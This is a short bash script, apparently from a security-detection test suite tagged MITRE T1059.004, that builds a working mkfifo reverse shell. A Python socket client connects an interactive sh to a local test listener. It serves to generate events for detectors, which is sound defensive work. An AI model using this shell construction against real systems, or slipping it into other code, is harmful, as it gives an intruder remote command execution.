#!/bin/bash
# technique: T1059.004
# tactic: execution, command_and_control
# what: the mkfifo reverse shell: cat FIFO | sh -i 2>&1 | client > FIFO, with a python socket
#       client standing in for nc (not installed here)
# source: event-generator netcat_remote_code_execution_in_container; common reverse-shell cheat sheets
# cleanup: the FIFO is removed and the listener stops at exit
. "$(dirname "$0")/lib.sh"
d=$(vg_tmp)
port=$(vg_serve shell $'id\nexit')
mkfifo "$d/f"
timeout 10 sh -c "cat '$d/f' | sh -i 2>&1 | python3 -c 'import socket,sys,threading;s=socket.create_connection((\"127.0.0.1\",$port));t=threading.Thread(target=lambda:[sys.stdout.buffer.write(b) or sys.stdout.flush() for b in iter(lambda:s.recv(4096),b\"\")],daemon=True);t.start();[s.sendall(l) for l in sys.stdin.buffer];t.join(2)' > '$d/f'" 2>/dev/null
true
